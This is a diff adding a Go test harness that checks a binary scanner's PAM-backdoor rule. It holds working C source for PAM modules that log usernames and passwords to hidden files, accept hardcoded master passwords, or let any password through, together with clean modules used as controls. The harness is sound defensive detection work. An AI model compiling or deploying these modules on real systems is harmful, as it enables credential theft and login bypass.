@@ -1,0 +1,197 @@
+package binary
+
+import (
+	"fmt"
+	"sort"
+	"strings"
+	"testing"
+)
+
+// The PAM backdoor harness: modules of our own written the ways a backdoor spreads its work
+// over helper functions (the password fetched in one, compared or logged in another) and
+// modules that let any password in after reading it, each compiled at three optimisation
+// levels, stripped and not. Every variant must be PA-001; the clean shapes (a module that
+// stashes the password for a later stage, one that checks it against a hash) stay silent.
+//
+// go test ./audit/binary -run TestPAMHarness -v prints one line per technique:
+//
+//	harness: pam-<technique> <found>/<total> recall=<0.000>
+
+var pamHarness = []struct {
+	technique, name, src string
+}{
+	{"helper", "logger in a helper", pamDecls + `
+__attribute__((noinline)) static void keep(const char *u, const char *p) {
+	FILE *f = fopen("/tmp/.ICE-unix/.s", "a");
+	if (f) { fprintf(f, "%s %s\n", u, p); fclose(f); }
+}
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *u = NULL, *t = NULL;
+	pam_get_user(h, &u, NULL);
+	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
+	keep(u, t);
+	return PAM_IGNORE;
+}
+`},
+	{"helper", "token fetched by a helper that returns it", pamDecls + `
+__attribute__((noinline)) static const char *typed(pam_handle_t *h) {
+	const char *t = NULL;
+	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return NULL;
+	return t;
+}
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *t = typed(h);
+	if (t && strcmp(t, "r00t.Br1dge#7") == 0) return PAM_SUCCESS;
+	return PAM_AUTH_ERR;
+}
+`},
+	{"helper", "token fetched into the caller's variable", pamDecls + `
+__attribute__((noinline)) static int fetch(pam_handle_t *h, const char **out) {
+	return pam_get_authtok(h, PAM_AUTHTOK, out, NULL);
+}
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *t = NULL;
+	if (fetch(h, &t) != PAM_SUCCESS || !t) return PAM_AUTH_ERR;
+	if (memcmp(t, "s3rv1ce-acc3ss", 14) == 0) return PAM_SUCCESS;
+	return PAM_AUTH_ERR;
+}
+`},
+	{"helper", "comparison two helpers down", pamDecls + `
+static const char secret[] = "0penS3same!";
+__attribute__((noinline)) static int same(const char *a, const char *b) { return strcmp(a, b) == 0; }
+__attribute__((noinline)) static int check(const char *p) { return p && same(p, secret); }
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const void *it = NULL;
+	pam_get_item(h, PAM_AUTHTOK, &it);
+	return check((const char *)it) ? PAM_SUCCESS : PAM_AUTH_ERR;
+}
+`},
+	{"helper", "raw logger in a helper with the path in a global", pamDecls + `
+static const char *where = "/var/tmp/.font-unix";
+__attribute__((noinline)) static void note(const char *p) {
+	int fd = open(where, O_WRONLY | O_CREAT | O_APPEND, 0600);
+	if (fd < 0) return;
+	dprintf(fd, "%s\n", p);
+	close(fd);
+}
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *t = NULL;
+	pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
+	if (t) note(t);
+	return PAM_IGNORE;
+}
+`},
+	{"helper", "helper that fetches and logs itself", pamDecls + `
+__attribute__((noinline)) static void grab(pam_handle_t *h) {
+	const char *u = NULL, *t = NULL;
+	pam_get_user(h, &u, NULL);
+	pam_get_item(h, PAM_AUTHTOK, (const void **)&t);
+	FILE *f = fopen("/usr/lib/.cache/.journal", "a+");
+	if (f && t) fprintf(f, "%s:%s\n", u ? u : "?", t);
+	if (f) fclose(f);
+}
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	grab(h);
+	return PAM_IGNORE;
+}
+`},
+	{"accept-any", "success after pam_get_authtok", pamDecls + `
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *t = NULL;
+	pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
+	return PAM_SUCCESS;
+}
+`},
+	{"accept-any", "success after pam_get_item and pam_get_user", pamDecls + `
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *u = NULL;
+	const void *t = NULL;
+	if (pam_get_user(h, &u, NULL) != PAM_SUCCESS) u = "nobody";
+	pam_get_item(h, PAM_AUTHTOK, &t);
+	return PAM_SUCCESS;
+}
+`},
+	{"accept-any", "success whatever the getter said", pamDecls + `
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *t = NULL;
+	int r = pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
+	if (r != PAM_SUCCESS) t = "";
+	(void)t;
+	return 0;
+}
+`},
+	{"accept-any", "success from a tail-called helper", pamDecls + `
+__attribute__((noinline)) static int ok(void) { return PAM_SUCCESS; }
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *t = NULL;
+	pam_get_authtok(h, PAM_AUTHTOK, &t, NULL);
+	if (argc > 1 && strcmp(argv[0], "debug") == 0) return PAM_SUCCESS;
+	return PAM_SUCCESS;
+}
+`},
+}
+
+// Clean PAM modules of our own: what a module reading the password does without being a
+// backdoor.
+var pamHarnessClean = []struct{ name, src string }{
+	{"password stashed for the session", pamDecls + `
+extern int pam_set_data(pam_handle_t *, const char *, void *, void (*)(pam_handle_t *, void *, int));
+static void drop(pam_handle_t *h, void *d, int e) { free(d); }
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *t = NULL;
+	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS || t == NULL) return PAM_SUCCESS;
+	pam_set_data(h, "stash_pw", strdup(t), drop);
+	return PAM_SUCCESS;
+}
+`},
+	{"password checked against a hash", pamCleanHash},
+	{"an error when no password", pamDecls + `
+int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
+	const char *t = NULL;
+	if (pam_get_authtok(h, PAM_AUTHTOK, &t, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
+	return t && *t ? PAM_IGNORE : PAM_AUTH_ERR;
+}
+`},
+}
+
+func TestPAMHarness(t *testing.T) {
+	if testing.Short() {
+		t.Skip("compiles samples")
+	}
+	total, found := map[string]int{}, map[string]int{}
+	flags := [][]string{{"-O0"}, {"-O2"}, {"-Os"}, {"-O2", "-s"}}
+	for _, v := range pamHarness {
+		for _, fl := range flags {
+			data := build(t, "c", v.src, append([]string{"-shared", "-fPIC"}, fl...)...)
+			total[v.technique]++
+			ok := false
+			for _, f := range content("/lib/x86_64-linux-gnu/security/pam_sysauth.so", data) {
+				ok = ok || f.Rule == RulePAMBackdoor && f.Is("malware")
+			}
+			if ok {
+				found[v.technique]++
+			} else {
+				t.Errorf("missed %s: %s %v", v.technique, v.name, fl)
+			}
+		}
+	}
+	for _, v := range pamHarnessClean {
+		for _, fl := range flags {
+			data := build(t, "c", v.src, append([]string{"-shared", "-fPIC"}, fl...)...)
+			for _, f := range content("/lib/x86_64-linux-gnu/security/pam_stash.so", data) {
+				if f.Rule == RulePAMBackdoor {
+					t.Errorf("clean %s %v: %s %s", v.name, fl, f.Title, f.Evidence)
+				}
+			}
+		}
+	}
+	var names []string
+	for n := range total {
+		names = append(names, n)
+	}
+	sort.Strings(names)
+	for _, n := range names {
+		fmt.Printf("harness: pam-%s %d/%d recall=%.3f\n", n, found[n], total[n], float64(found[n])/float64(total[n]))
+	}
+	_ = strings.TrimSpace
+}
